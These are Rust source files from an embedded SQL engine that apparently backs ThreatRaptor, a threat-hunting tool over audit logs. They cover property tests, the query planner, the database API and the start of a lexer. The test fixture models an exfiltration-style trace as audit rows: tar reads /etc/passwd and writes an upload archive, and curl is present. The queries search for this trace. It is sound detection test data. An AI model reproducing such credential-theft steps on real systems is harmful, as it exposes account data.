            dp[i][j] = match p[i - 1] {
                '%' => dp[i - 1][j] || dp[i][j - 1],
                '_' => dp[i - 1][j - 1],
                c => dp[i - 1][j - 1] && c == t[j - 1],
            };
        }
    }
    dp[p.len()][t.len()]
}

proptest! {
    /// The iterative matcher agrees with the DP reference on random
    /// pattern/text pairs over a small alphabet (wildcards included).
    #[test]
    fn like_matches_reference(pattern in "[ab%_]{0,10}", text in "[ab]{0,10}") {
        prop_assert_eq!(like_match(&pattern, &text), like_reference(&pattern, &text));
    }

    /// Any extracted containment literal is truly necessary: texts matching
    /// the pattern always contain the literal.
    #[test]
    fn containment_literal_is_sound(pattern in "%[abc]{3,8}%", text in "[abc]{0,16}") {
        if let Some(lit) = containment_literal(&pattern) {
            if like_match(&pattern, &text) {
                prop_assert!(text.contains(&lit));
            }
        }
    }

    /// Index-accelerated LIKE returns exactly the same rows as a full scan.
    #[test]
    fn trigram_path_equals_full_scan(
        names in proptest::collection::vec("[a-d/]{1,12}", 1..60),
        needle in "[a-d/]{3,6}",
    ) {
        let mut plain = Database::new();
        let mut indexed = Database::new();
        for db in [&mut plain, &mut indexed] {
            db.create_table(TableSchema::new(
                "files",
                vec![ColumnDef::new("id", ColumnType::Int), ColumnDef::new("name", ColumnType::Str)],
            )).unwrap();
        }
        indexed.create_hash_index("files", "name").unwrap();
        indexed.create_trigram_index("files", "name").unwrap();
        for (i, n) in names.iter().enumerate() {
            plain.insert("files", &[Ins::Int(i as i64), Ins::Str(n)]).unwrap();
            indexed.insert("files", &[Ins::Int(i as i64), Ins::Str(n)]).unwrap();
        }
        let sql = format!("SELECT id FROM files WHERE name LIKE '%{needle}%' ORDER BY id");
        let a = plain.query(&sql).unwrap();
        let b = indexed.query(&sql).unwrap();
        prop_assert_eq!(a.rows(), b.rows());
        prop_assert!(b.stats.index_scans >= 1 || b.stats.full_scans >= 1);
    }

    /// Hash-index equality returns exactly the rows a scan-and-filter finds.
    #[test]
    fn hash_index_equals_scan(
        vals in proptest::collection::vec(0i64..20, 1..80),
        probe in 0i64..20,
    ) {
        let mut db = Database::new();
        db.create_table(TableSchema::new(
            "t",
            vec![ColumnDef::new("id", ColumnType::Int), ColumnDef::new("v", ColumnType::Int)],
        )).unwrap();
        db.create_hash_index("t", "v").unwrap();
        for (i, v) in vals.iter().enumerate() {
            db.insert("t", &[Ins::Int(i as i64), Ins::Int(*v)]).unwrap();
        }
        let got = db.query(&format!("SELECT id FROM t WHERE v = {probe} ORDER BY id")).unwrap();
        let want: Vec<i64> = vals
            .iter()
            .enumerate()
            .filter(|(_, v)| **v == probe)
            .map(|(i, _)| i as i64)
            .collect();
        let got_ids: Vec<i64> = got.rows().iter().filter_map(|r| r[0].as_int()).collect();
        prop_assert_eq!(got_ids, want);
    }

    /// Join results agree with a naive nested-loop oracle on random data.
    #[test]
    fn hash_join_equals_nested_loop(
        left in proptest::collection::vec(0i64..8, 1..30),
        right in proptest::collection::vec(0i64..8, 1..30),
    ) {
        let mut db = Database::new();
        db.create_table(TableSchema::new(
            "l",
            vec![ColumnDef::new("id", ColumnType::Int), ColumnDef::new("k", ColumnType::Int)],
        )).unwrap();
        db.create_table(TableSchema::new(
            "r",
            vec![ColumnDef::new("id", ColumnType::Int), ColumnDef::new("k", ColumnType::Int)],
        )).unwrap();
        for (i, k) in left.iter().enumerate() {
            db.insert("l", &[Ins::Int(i as i64), Ins::Int(*k)]).unwrap();
        }
        for (i, k) in right.iter().enumerate() {
            db.insert("r", &[Ins::Int(i as i64), Ins::Int(*k)]).unwrap();
        }
        let got = db
            .query("SELECT l.id, r.id FROM l, r WHERE l.k = r.k ORDER BY l.id, r.id")
            .unwrap();
        let mut want = Vec::new();
        for (i, lk) in left.iter().enumerate() {
            for (j, rk) in right.iter().enumerate() {
                if lk == rk {
                    want.push((i as i64, j as i64));
                }
            }
        }
        want.sort_unstable();
        let got_pairs: Vec<(i64, i64)> = got
            .rows()
            .iter()
            .map(|r| (r[0].as_int().unwrap(), r[1].as_int().unwrap()))
            .collect();
        prop_assert_eq!(got_pairs, want);
    }
}
