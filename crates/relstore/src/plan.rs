//! Logical planning.
//!
//! Planning does three things: resolve names (tables, aliases, unqualified
//! columns), push single-alias conjuncts down into their scans, and leave
//! every multi-alias conjunct as a *residual* evaluated during joins.
//!
//! Join order is the FROM-list order, on purpose. ThreatRaptor's scheduler
//! beats the "giant query" plans precisely because a general engine executes
//! what it is given; modelling a full cost-based join reorderer would both
//! exceed the paper's scope and erase the phenomenon Table VIII measures
//! (giant SQL queries weaving many joins/constraints run far slower than
//! scheduled small ones).

use raptor_common::error::{Error, Result};
use raptor_common::hash::FxHashMap;

use crate::schema::TableSchema;
use crate::sql::ast::{ColRef, Expr, Projection, Select, TableRef};

/// Access to table schemas, implemented by [`crate::db::Database`].
pub trait SchemaProvider {
    fn schema(&self, table: &str) -> Option<&TableSchema>;
}

/// A planned scan of one FROM item.
#[derive(Clone, Debug)]
pub struct ScanPlan {
    pub table: String,
    pub alias: String,
    /// Conjunction of pushed-down single-alias predicates.
    pub predicate: Option<Expr>,
}

/// A fully-resolved query plan.
#[derive(Clone, Debug)]
pub struct QueryPlan {
    pub scans: Vec<ScanPlan>,
    /// Multi-alias conjuncts, evaluated as soon as their aliases are bound.
    pub residuals: Vec<Expr>,
    pub distinct: bool,
    pub projections: Vec<Projection>,
    pub order_by: Vec<ColRef>,
    pub limit: Option<usize>,
}

struct Resolver<'a> {
    /// alias → (table name, schema)
    aliases: FxHashMap<String, &'a TableSchema>,
    /// insertion order of aliases
    order: Vec<String>,
}

impl<'a> Resolver<'a> {
    fn build(provider: &'a dyn SchemaProvider, from: &[TableRef]) -> Result<Self> {
        let mut aliases = FxHashMap::default();
        let mut order = Vec::new();
        for tr in from {
            let schema = provider
                .schema(&tr.table)
                .ok_or_else(|| Error::storage(format!("unknown table `{}`", tr.table)))?;
            if aliases.insert(tr.alias.clone(), schema).is_some() {
                return Err(Error::semantic(format!("duplicate alias `{}`", tr.alias)));
            }
            order.push(tr.alias.clone());
        }
        Ok(Resolver { aliases, order })
    }

    /// Fills in the qualifier of an unqualified column; validates qualified
    /// ones.
    fn resolve(&self, col: &ColRef) -> Result<ColRef> {
        match &col.qualifier {
            Some(q) => {
                let schema = self
                    .aliases
                    .get(q)
                    .ok_or_else(|| Error::semantic(format!("unknown alias `{q}`")))?;
                schema.require_column(&col.column)?;
                Ok(col.clone())
            }
            None => {
                let mut owners = self
                    .order
                    .iter()
                    .filter(|a| self.aliases[*a].column_index(&col.column).is_some());
                let first = owners
                    .next()
                    .ok_or_else(|| Error::semantic(format!("unknown column `{}`", col.column)))?;
                if owners.next().is_some() {
                    return Err(Error::semantic(format!(
                        "ambiguous column `{}` (qualify it)",
                        col.column
                    )));
                }
                Ok(ColRef { qualifier: Some(first.clone()), column: col.column.clone() })
            }
        }
    }

    fn resolve_expr(&self, e: &Expr) -> Result<Expr> {
        Ok(match e {
            Expr::CmpLit { col, op, lit } => {
                Expr::CmpLit { col: self.resolve(col)?, op: *op, lit: lit.clone() }
            }
            Expr::CmpCol { left, op, right } => {
                Expr::CmpCol { left: self.resolve(left)?, op: *op, right: self.resolve(right)? }
            }
            Expr::Like { col, pattern, negated } => {
                Expr::Like { col: self.resolve(col)?, pattern: pattern.clone(), negated: *negated }
            }
            Expr::InList { col, list, negated } => {
                Expr::InList { col: self.resolve(col)?, list: list.clone(), negated: *negated }
            }
            Expr::And(a, b) => {
                Expr::And(Box::new(self.resolve_expr(a)?), Box::new(self.resolve_expr(b)?))
            }
            Expr::Or(a, b) => {
                Expr::Or(Box::new(self.resolve_expr(a)?), Box::new(self.resolve_expr(b)?))
            }
            Expr::Not(inner) => Expr::Not(Box::new(self.resolve_expr(inner)?)),
        })
    }
}

/// Plans a parsed SELECT against the catalog.
pub fn plan_select(provider: &dyn SchemaProvider, sel: &Select) -> Result<QueryPlan> {
    let resolver = Resolver::build(provider, &sel.from)?;

    let projections = sel
        .projections
        .iter()
        .map(|p| {
            Ok(match p {
                Projection::Col(c) => Projection::Col(resolver.resolve(c)?),
                Projection::CountStar => Projection::CountStar,
            })
        })
        .collect::<Result<Vec<_>>>()?;

    let order_by = sel.order_by.iter().map(|c| resolver.resolve(c)).collect::<Result<Vec<_>>>()?;

    let mut scan_preds: FxHashMap<String, Vec<Expr>> = FxHashMap::default();
    let mut residuals = Vec::new();
    if let Some(w) = &sel.where_clause {
        let resolved = resolver.resolve_expr(w)?;
        for conjunct in resolved.conjuncts() {
            let quals = conjunct.qualifiers();
            debug_assert!(quals.iter().all(Option::is_some), "resolver must qualify");
            if quals.len() == 1 {
                let q = quals[0].clone().unwrap();
                scan_preds.entry(q).or_default().push(conjunct);
            } else {
                residuals.push(conjunct);
            }
        }
    }

    let scans = sel
        .from
        .iter()
        .map(|tr| {
            let predicate = scan_preds.remove(&tr.alias).map(|mut preds| {
                let mut acc = preds.remove(0);
                for p in preds {
                    acc = Expr::And(Box::new(acc), Box::new(p));
                }
                acc
            });
            ScanPlan { table: tr.table.clone(), alias: tr.alias.clone(), predicate }
        })
        .collect();

    Ok(QueryPlan {
        scans,
        residuals,
        distinct: sel.distinct,
        projections,
        order_by,
        limit: sel.limit,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::schema::{ColumnDef, ColumnType};
    use crate::sql::parse_select;

    struct Fake(Vec<TableSchema>);

    impl SchemaProvider for Fake {
        fn schema(&self, table: &str) -> Option<&TableSchema> {
            self.0.iter().find(|s| s.name == table)
        }
    }

    fn provider() -> Fake {
        Fake(vec![
            TableSchema::new(
                "processes",
                vec![
                    ColumnDef::new("id", ColumnType::Int),
                    ColumnDef::new("exename", ColumnType::Str),
                ],
            ),
            TableSchema::new(
                "events",
                vec![
                    ColumnDef::new("id", ColumnType::Int),
                    ColumnDef::new("subject", ColumnType::Int),
                    ColumnDef::new("optype", ColumnType::Str),
                ],
            ),
        ])
    }

    #[test]
    fn pushdown_and_residuals() {
        let sel = parse_select(
            "SELECT p.exename FROM processes p, events e \
             WHERE e.subject = p.id AND p.exename LIKE '%tar%' AND e.optype = 'read'",
        )
        .unwrap();
        let plan = plan_select(&provider(), &sel).unwrap();
        assert_eq!(plan.scans.len(), 2);
        assert!(plan.scans[0].predicate.is_some(), "LIKE pushed to p");
        assert!(plan.scans[1].predicate.is_some(), "optype pushed to e");
        assert_eq!(plan.residuals.len(), 1, "join predicate is residual");
    }

    #[test]
    fn unqualified_columns_resolve_uniquely() {
        let sel = parse_select("SELECT exename FROM processes p WHERE optype = 'read'").unwrap();
        // optype is not in processes: error only if FROM lacks events.
        assert!(plan_select(&provider(), &sel).is_err());

        let sel = parse_select("SELECT exename FROM processes p").unwrap();
        let plan = plan_select(&provider(), &sel).unwrap();
        match &plan.projections[0] {
            Projection::Col(c) => assert_eq!(c.qualifier.as_deref(), Some("p")),
            _ => panic!(),
        }
    }

    #[test]
    fn ambiguous_column_rejected() {
        let sel = parse_select("SELECT id FROM processes p, events e").unwrap();
        let err = plan_select(&provider(), &sel).unwrap_err();
        assert!(err.to_string().contains("ambiguous"));
    }

    #[test]
    fn unknown_table_and_alias() {
        let sel = parse_select("SELECT x FROM nope").unwrap();
        assert!(plan_select(&provider(), &sel).is_err());
        let sel = parse_select("SELECT q.exename FROM processes p").unwrap();
        assert!(plan_select(&provider(), &sel).is_err());
    }

    #[test]
    fn duplicate_alias_rejected() {
        let sel = parse_select("SELECT p.id FROM processes p, events p").unwrap();
        assert!(plan_select(&provider(), &sel).unwrap_err().to_string().contains("duplicate"));
    }

    #[test]
    fn or_across_aliases_is_residual() {
        let sel = parse_select(
            "SELECT p.id FROM processes p, events e \
             WHERE p.exename = 'x' OR e.optype = 'read'",
        )
        .unwrap();
        let plan = plan_select(&provider(), &sel).unwrap();
        assert!(plan.scans.iter().all(|s| s.predicate.is_none()));
        assert_eq!(plan.residuals.len(), 1);
    }
}
