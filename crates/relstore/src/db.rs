//! The database facade.
//!
//! Holds a handle to the (possibly shared) string dictionary, owns tables
//! and indexes, and exposes the public API: DDL
//! ([`Database::create_table`], `create_*_index`), inserts, and
//! [`Database::query`] for the SQL subset.

use std::sync::atomic::{AtomicUsize, Ordering};

use raptor_common::error::{Error, Result};
use raptor_common::hash::FxHashMap;
use raptor_common::intern::SharedDict;
use raptor_common::pool::Pool;
use raptor_storage::{EntityClass, StoreStats, ValueColumn};

use crate::exec::{execute, ExecStats};
use crate::index::{BTreeIndex, HashIndex, TrigramIndex};
use crate::plan::{plan_select, SchemaProvider};
use crate::schema::TableSchema;
use crate::sql::parse_select;
use crate::table::Table;
use crate::value::Value;

/// A value being inserted (strings are interned on the way in).
#[derive(Clone, Copy, Debug)]
pub enum Ins<'a> {
    Int(i64),
    Str(&'a str),
    Null,
}

/// A query result: projected column names, typed shared-plane **columns**,
/// and execution counters. Strings stay interned — `rendered_rows` (or the
/// engine's edge) resolves them through the carried dictionary handle.
#[derive(Clone, Debug)]
pub struct QueryResult {
    pub columns: Vec<String>,
    /// One [`ValueColumn`] per projected column (column-major; rows are
    /// materialized only on demand via [`QueryResult::rows`]).
    pub cols: Vec<ValueColumn>,
    pub stats: ExecStats,
    /// The dictionary plane `cols`' symbols resolve through.
    pub dict: SharedDict,
}

impl QueryResult {
    pub fn n_rows(&self) -> usize {
        self.cols.first().map_or(0, ValueColumn::len)
    }

    /// One row, materialized on demand.
    pub fn row(&self, i: usize) -> Vec<Value> {
        self.cols.iter().map(|c| c.get(i)).collect()
    }

    /// All rows, materialized row-major (tests and edge consumers).
    pub fn rows(&self) -> Vec<Vec<Value>> {
        (0..self.n_rows()).map(|i| self.row(i)).collect()
    }

    /// Renders rows as display strings (column order preserved).
    pub fn rendered_rows(&self) -> Vec<Vec<String>> {
        (0..self.n_rows())
            .map(|i| self.cols.iter().map(|c| c.render(i, &self.dict)).collect())
            .collect()
    }
}

/// The embedded relational database.
pub struct Database {
    dict: SharedDict,
    tables: FxHashMap<String, Table>,
    hash_indexes: FxHashMap<(String, String), HashIndex>,
    btree_indexes: FxHashMap<(String, String), BTreeIndex>,
    trigram_indexes: FxHashMap<(String, String), TrigramIndex>,
    /// SQL texts parsed over this database's lifetime. The typed
    /// `StorageBackend` entry points never touch this — tests assert it.
    /// Atomic (not `Cell`) so the database stays `Sync` on the query path:
    /// the parallel execution plane shares `&Database` across workers.
    text_parses: AtomicUsize,
    /// Worker pool for partitioned scans and parallel hash-join probes
    /// (see `exec`). One thread ⇒ the exact sequential code paths.
    pool: Pool,
    /// Data statistics, maintained incrementally by [`Database::insert`]
    /// (every write path funnels through it) and served scan-free via
    /// `StorageBackend::stats` and the planner's index selection.
    stats: StoreStats,
}

/// Entity class whose rows live in `table`, for the audit schema's entity
/// tables (`None` for `events` and non-audit tables).
fn class_for_table(table: &str) -> Option<EntityClass> {
    match table {
        "files" => Some(EntityClass::File),
        "processes" => Some(EntityClass::Process),
        "netconns" => Some(EntityClass::NetConn),
        _ => None,
    }
}

impl SchemaProvider for Database {
    fn schema(&self, table: &str) -> Option<&TableSchema> {
        self.tables.get(table).map(|t| &t.schema)
    }
}

impl Default for Database {
    fn default() -> Self {
        Self::with_dict(SharedDict::new())
    }
}

impl Database {
    /// A database over its own private dictionary.
    pub fn new() -> Self {
        Self::default()
    }

    /// A database interning into `dict` — the shared dictionary plane. The
    /// engine hands one dictionary to both backends at `empty()`/`load()`
    /// time so equal strings compare as equal symbols across stores.
    pub fn with_dict(dict: SharedDict) -> Self {
        Database {
            stats: StoreStats::new(dict.clone()),
            dict,
            tables: FxHashMap::default(),
            hash_indexes: FxHashMap::default(),
            btree_indexes: FxHashMap::default(),
            trigram_indexes: FxHashMap::default(),
            text_parses: AtomicUsize::new(0),
            pool: Pool::default(),
        }
    }

    pub fn dict(&self) -> &SharedDict {
        &self.dict
    }

    /// The worker pool query execution parallelizes on (scan filtering and
    /// hash-join probes). Defaults to `RAPTOR_THREADS` / available
    /// parallelism; see [`Database::set_threads`].
    pub fn pool(&self) -> Pool {
        self.pool
    }

    /// Pins the query-execution worker count (1 ⇒ strictly sequential).
    pub fn set_threads(&mut self, threads: usize) {
        self.pool = Pool::with_threads(threads);
    }

    /// Re-segments every table to `rows`-row segments, rebuilding zone maps
    /// in one pass. Cell storage is capacity-independent (whole-table
    /// columnar vectors), so this is cheap and callable at any time —
    /// results are byte-identical at every capacity, only scan granularity
    /// (and [`ExecStats`] segment counters) changes.
    pub fn set_segment_rows(&mut self, rows: usize) {
        for t in self.tables.values_mut() {
            t.set_segment_rows(rows);
        }
    }

    pub fn table(&self, name: &str) -> Option<&Table> {
        self.tables.get(name)
    }

    pub(crate) fn hash_index(&self, table: &str, col: &str) -> Option<&HashIndex> {
        self.hash_indexes.get(&(table.to_string(), col.to_string()))
    }

    pub(crate) fn btree_index(&self, table: &str, col: &str) -> Option<&BTreeIndex> {
        self.btree_indexes.get(&(table.to_string(), col.to_string()))
    }

    pub(crate) fn trigram_index(&self, table: &str, col: &str) -> Option<&TrigramIndex> {
        self.trigram_indexes.get(&(table.to_string(), col.to_string()))
    }

    /// Creates an empty table.
    pub fn create_table(&mut self, schema: TableSchema) -> Result<()> {
        if self.tables.contains_key(&schema.name) {
            return Err(Error::storage(format!("table `{}` already exists", schema.name)));
        }
        self.tables.insert(schema.name.clone(), Table::new(schema));
        Ok(())
    }

    fn check_col(&self, table: &str, col: &str) -> Result<usize> {
        let t = self
            .tables
            .get(table)
            .ok_or_else(|| Error::storage(format!("unknown table `{table}`")))?;
        t.schema.require_column(col)
    }

    /// Creates a hash (equality) index. Rows already present are indexed
    /// (one pass down the column vector).
    pub fn create_hash_index(&mut self, table: &str, col: &str) -> Result<()> {
        let ci = self.check_col(table, col)?;
        let t = &self.tables[table];
        let mut idx = HashIndex::default();
        for rid in 0..t.len() as u32 {
            idx.insert(t.cell(rid, ci), rid);
        }
        self.hash_indexes.insert((table.to_string(), col.to_string()), idx);
        Ok(())
    }

    /// Creates a B-tree (range) index over an integer/time column.
    pub fn create_btree_index(&mut self, table: &str, col: &str) -> Result<()> {
        let ci = self.check_col(table, col)?;
        let t = &self.tables[table];
        let mut idx = BTreeIndex::default();
        for rid in 0..t.len() as u32 {
            if let Value::Int(k) = t.cell(rid, ci) {
                idx.insert(k, rid);
            }
        }
        self.btree_indexes.insert((table.to_string(), col.to_string()), idx);
        Ok(())
    }

    /// Creates a trigram index over a string column (used together with a
    /// hash index on the same column to accelerate `LIKE '%lit%'`).
    pub fn create_trigram_index(&mut self, table: &str, col: &str) -> Result<()> {
        let ci = self.check_col(table, col)?;
        let t = &self.tables[table];
        let mut idx = TrigramIndex::default();
        for rid in 0..t.len() as u32 {
            if let Value::Str(s) = t.cell(rid, ci) {
                idx.add_sym(s, &self.dict);
            }
        }
        self.trigram_indexes.insert((table.to_string(), col.to_string()), idx);
        Ok(())
    }

    /// Inserts one row, maintaining all indexes on the table.
    pub fn insert(&mut self, table: &str, row: &[Ins<'_>]) -> Result<()> {
        let values: Vec<Value> = row
            .iter()
            .map(|v| match v {
                Ins::Int(i) => Value::Int(*i),
                Ins::Str(s) => Value::Str(self.dict.intern(s)),
                Ins::Null => Value::Null,
            })
            .collect();
        let t = self
            .tables
            .get_mut(table)
            .ok_or_else(|| Error::storage(format!("unknown table `{table}`")))?;
        let rid = t.insert(&values)?;
        let schema = t.schema.clone();
        // Maintain data statistics (row/column counts, degree summaries)
        // alongside the indexes — every write path funnels through here, so
        // bulk load and streaming ingest produce identical stats. String
        // values are recorded by their freshly interned symbols, so the
        // frequency maps key on the shared dictionary plane.
        {
            let ts = self.stats.table_mut(table);
            ts.record_row();
            for (ci, cdef) in schema.columns.iter().enumerate() {
                match values[ci] {
                    Value::Int(i) => ts.record_int(&cdef.name, i),
                    Value::Str(s) => ts.record_sym(&cdef.name, s),
                    Value::Null => {}
                }
            }
            let int_col = |name: &str| -> Option<i64> {
                schema.column_index(name).and_then(|ci| match row[ci] {
                    Ins::Int(i) => Some(i),
                    _ => None,
                })
            };
            if let Some(class) = class_for_table(table) {
                if let Some(id) = int_col("id") {
                    self.stats.record_node(class, id);
                }
            } else if table == "events" {
                if let (Some(s), Some(o)) = (int_col("subject"), int_col("object")) {
                    let op = schema.column_index("optype").and_then(|ci| match values[ci] {
                        Value::Str(sym) => Some(sym),
                        _ => None,
                    });
                    self.stats.record_edge(s, o, op);
                }
            }
        }
        for (ci, cdef) in schema.columns.iter().enumerate() {
            let key = (table.to_string(), cdef.name.clone());
            if let Some(idx) = self.hash_indexes.get_mut(&key) {
                idx.insert(values[ci], rid);
            }
            if let Some(idx) = self.btree_indexes.get_mut(&key) {
                if let Value::Int(k) = values[ci] {
                    idx.insert(k, rid);
                }
            }
            if let Some(idx) = self.trigram_indexes.get_mut(&key) {
                if let Value::Str(s) = values[ci] {
                    idx.add_sym(s, &self.dict);
                }
            }
        }
        Ok(())
    }

    /// Parses, plans and executes a SELECT.
    pub fn query(&self, sql: &str) -> Result<QueryResult> {
        self.text_parses.fetch_add(1, Ordering::Relaxed);
        let sel = parse_select(sql)?;
        let plan = plan_select(self, &sel)?;
        let (core, stats) = execute(self, &plan)?;
        Ok(QueryResult { columns: core.columns, cols: core.cols, stats, dict: self.dict.clone() })
    }

    /// How many SQL texts this database has parsed (the typed backend path
    /// keeps this flat).
    pub fn text_parse_count(&self) -> usize {
        self.text_parses.load(Ordering::Relaxed)
    }

    /// The incrementally-maintained data statistics (also reachable through
    /// `StorageBackend::stats`). The planner consults these for index
    /// selection; the engine's cost-based scheduler for pattern ordering.
    pub fn store_stats(&self) -> &StoreStats {
        &self.stats
    }

    /// Convenience: runs a `SELECT COUNT(*) ...` and returns the count.
    pub fn query_count(&self, sql: &str) -> Result<i64> {
        let r = self.query(sql)?;
        r.cols
            .first()
            .filter(|c| !c.is_empty())
            .and_then(|c| c.get(0).as_int())
            .ok_or_else(|| Error::execution("query did not return a count"))
    }

    /// Total rows across all tables (for stats displays).
    pub fn total_rows(&self) -> usize {
        self.tables.values().map(Table::len).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::schema::{ColumnDef, ColumnType};

    fn db_with_audit_shape() -> Database {
        let mut db = Database::new();
        db.create_table(TableSchema::new(
            "processes",
            vec![
                ColumnDef::new("id", ColumnType::Int),
                ColumnDef::new("pid", ColumnType::Int),
                ColumnDef::new("exename", ColumnType::Str),
            ],
        ))
        .unwrap();
        db.create_table(TableSchema::new(
            "files",
            vec![ColumnDef::new("id", ColumnType::Int), ColumnDef::new("name", ColumnType::Str)],
        ))
        .unwrap();
        db.create_table(TableSchema::new(
            "events",
            vec![
                ColumnDef::new("id", ColumnType::Int),
                ColumnDef::new("subject", ColumnType::Int),
                ColumnDef::new("object", ColumnType::Int),
                ColumnDef::new("optype", ColumnType::Str),
                ColumnDef::new("starttime", ColumnType::Time),
            ],
        ))
        .unwrap();
        // Entities.
        db.insert("processes", &[Ins::Int(0), Ins::Int(100), Ins::Str("/bin/tar")]).unwrap();
        db.insert("processes", &[Ins::Int(1), Ins::Int(101), Ins::Str("/bin/bzip2")]).unwrap();
        db.insert("processes", &[Ins::Int(2), Ins::Int(102), Ins::Str("/usr/bin/curl")]).unwrap();
        db.insert("files", &[Ins::Int(3), Ins::Str("/etc/passwd")]).unwrap();
        db.insert("files", &[Ins::Int(4), Ins::Str("/tmp/upload.tar")]).unwrap();
        // tar reads /etc/passwd, writes /tmp/upload.tar; bzip2 reads it.
        db.insert(
            "events",
            &[Ins::Int(0), Ins::Int(0), Ins::Int(3), Ins::Str("read"), Ins::Int(100)],
        )
        .unwrap();
        db.insert(
            "events",
            &[Ins::Int(1), Ins::Int(0), Ins::Int(4), Ins::Str("write"), Ins::Int(200)],
        )
        .unwrap();
        db.insert(
            "events",
            &[Ins::Int(2), Ins::Int(1), Ins::Int(4), Ins::Str("read"), Ins::Int(300)],
        )
        .unwrap();
        db
    }

    #[test]
    fn single_table_filter() {
        let db = db_with_audit_shape();
        let r = db.query("SELECT exename FROM processes WHERE exename LIKE '%tar%'").unwrap();
        assert_eq!(r.n_rows(), 1);
        assert_eq!(r.rendered_rows()[0][0], "/bin/tar");
    }

    #[test]
    fn three_way_join_event_pattern() {
        let db = db_with_audit_shape();
        let r = db
            .query(
                "SELECT p.exename, f.name FROM processes p, events e, files f \
                 WHERE e.subject = p.id AND e.object = f.id AND e.optype = 'read' \
                 AND p.exename LIKE '%/bin/tar%'",
            )
            .unwrap();
        assert_eq!(
            r.rendered_rows(),
            vec![vec!["/bin/tar".to_string(), "/etc/passwd".to_string()]]
        );
    }

    #[test]
    fn temporal_residual_between_event_copies() {
        let db = db_with_audit_shape();
        // tar's read happens before tar's write: self-join on events.
        let r = db
            .query(
                "SELECT e1.id, e2.id FROM events e1, events e2 \
                 WHERE e1.subject = e2.subject AND e1.optype = 'read' \
                 AND e2.optype = 'write' AND e1.starttime < e2.starttime",
            )
            .unwrap();
        assert_eq!(r.n_rows(), 1);
        assert_eq!(r.row(0)[0], Value::Int(0));
        assert_eq!(r.row(0)[1], Value::Int(1));
    }

    #[test]
    fn distinct_order_limit() {
        let db = db_with_audit_shape();
        let r = db.query("SELECT DISTINCT optype FROM events ORDER BY optype LIMIT 2").unwrap();
        assert_eq!(r.rendered_rows(), vec![vec!["read".to_string()], vec!["write".to_string()]]);
    }

    /// Pins the satellite contract on `Value` ordering: symbols order by
    /// dictionary *content*, never by handle id — so ORDER BY (and any
    /// `sorted_rows()`-style consumer) cannot silently change with interner
    /// insertion order.
    #[test]
    fn order_by_is_interner_insertion_order_independent() {
        let mut db = Database::new();
        db.create_table(TableSchema::new(
            "t",
            vec![ColumnDef::new("id", ColumnType::Int), ColumnDef::new("name", ColumnType::Str)],
        ))
        .unwrap();
        // Insert in *reverse* lexicographic order: handle ids invert string
        // order by construction.
        for (id, name) in [(0, "zeta"), (1, "mid"), (2, "alpha")] {
            db.insert("t", &[Ins::Int(id), Ins::Str(name)]).unwrap();
        }
        let zeta = db.dict().get("zeta").unwrap();
        let alpha = db.dict().get("alpha").unwrap();
        assert!(zeta < alpha, "handles inverted by construction");
        let r = db.query("SELECT name FROM t ORDER BY name").unwrap();
        assert_eq!(r.rendered_rows(), vec![vec!["alpha"], vec!["mid"], vec!["zeta"]]);
    }

    #[test]
    fn count_star() {
        let db = db_with_audit_shape();
        assert_eq!(db.query_count("SELECT COUNT(*) FROM events").unwrap(), 3);
        assert_eq!(db.query_count("SELECT COUNT(*) FROM events WHERE optype = 'read'").unwrap(), 2);
    }

    #[test]
    fn indexes_accelerate_without_changing_results() {
        let mut db = db_with_audit_shape();
        let slow = db.query("SELECT id FROM events WHERE optype = 'read'").unwrap();
        assert_eq!(slow.stats.full_scans, 1);
        db.create_hash_index("events", "optype").unwrap();
        let fast = db.query("SELECT id FROM events WHERE optype = 'read'").unwrap();
        assert_eq!(fast.stats.index_scans, 1);
        assert_eq!(slow.rows(), fast.rows());
    }

    #[test]
    fn trigram_like_acceleration() {
        let mut db = db_with_audit_shape();
        db.create_hash_index("processes", "exename").unwrap();
        db.create_trigram_index("processes", "exename").unwrap();
        let r = db.query("SELECT id FROM processes WHERE exename LIKE '%curl%'").unwrap();
        assert_eq!(r.stats.index_scans, 1);
        assert_eq!(r.rows(), vec![vec![Value::Int(2)]]);
    }

    #[test]
    fn btree_range_acceleration() {
        let mut db = db_with_audit_shape();
        db.create_btree_index("events", "starttime").unwrap();
        let r = db.query("SELECT id FROM events WHERE starttime >= 200").unwrap();
        assert_eq!(r.stats.index_scans, 1);
        assert_eq!(r.n_rows(), 2);
    }

    #[test]
    fn in_list_filter() {
        let db = db_with_audit_shape();
        let r = db.query("SELECT exename FROM processes WHERE id IN (0, 2)").unwrap();
        assert_eq!(r.n_rows(), 2);
        let r = db
            .query("SELECT exename FROM processes WHERE exename IN ('/bin/tar', 'missing')")
            .unwrap();
        assert_eq!(r.n_rows(), 1);
    }

    #[test]
    fn unknown_string_literal_matches_nothing() {
        let db = db_with_audit_shape();
        let r = db.query("SELECT id FROM processes WHERE exename = '/bin/nonexistent'").unwrap();
        assert_eq!(r.n_rows(), 0);
        // ...but != matches everything.
        let r = db.query("SELECT id FROM processes WHERE exename != '/bin/nonexistent'").unwrap();
        assert_eq!(r.n_rows(), 3);
    }

    #[test]
    fn or_and_not_combinations() {
        let db = db_with_audit_shape();
        let r = db
            .query(
                "SELECT id FROM events WHERE optype = 'write' OR (optype = 'read' AND starttime >= 300)",
            )
            .unwrap();
        assert_eq!(r.n_rows(), 2);
        let r = db.query("SELECT id FROM events WHERE NOT optype = 'read'").unwrap();
        assert_eq!(r.n_rows(), 1);
        let r = db.query("SELECT id FROM events WHERE optype NOT IN ('read')").unwrap();
        assert_eq!(r.n_rows(), 1);
    }

    #[test]
    fn cartesian_join_without_equi_key() {
        let db = db_with_audit_shape();
        let r = db.query("SELECT p.id, f.id FROM processes p, files f").unwrap();
        assert_eq!(r.n_rows(), 6);
    }

    #[test]
    fn ddl_errors() {
        let mut db = db_with_audit_shape();
        assert!(db
            .create_table(TableSchema::new("events", vec![]))
            .unwrap_err()
            .to_string()
            .contains("already exists"));
        assert!(db.create_hash_index("nope", "x").is_err());
        assert!(db.create_hash_index("events", "nope").is_err());
        assert!(db.insert("nope", &[]).is_err());
        assert!(db.insert("files", &[Ins::Int(0)]).is_err());
    }
}
