//! SQL lexer.

use raptor_common::error::{Error, Result};

/// A lexical token with its byte offset.
#[derive(Clone, PartialEq, Debug)]
pub struct Token {
    pub kind: TokenKind,
    pub offset: usize,
}

#[derive(Clone, PartialEq, Debug)]
pub enum TokenKind {
    /// Keyword or identifier (keywords are recognized case-insensitively by
    /// the parser; `text` preserves the original spelling, `upper` the
    /// normalized form).
    Word {
        text: String,
        upper: String,
    },
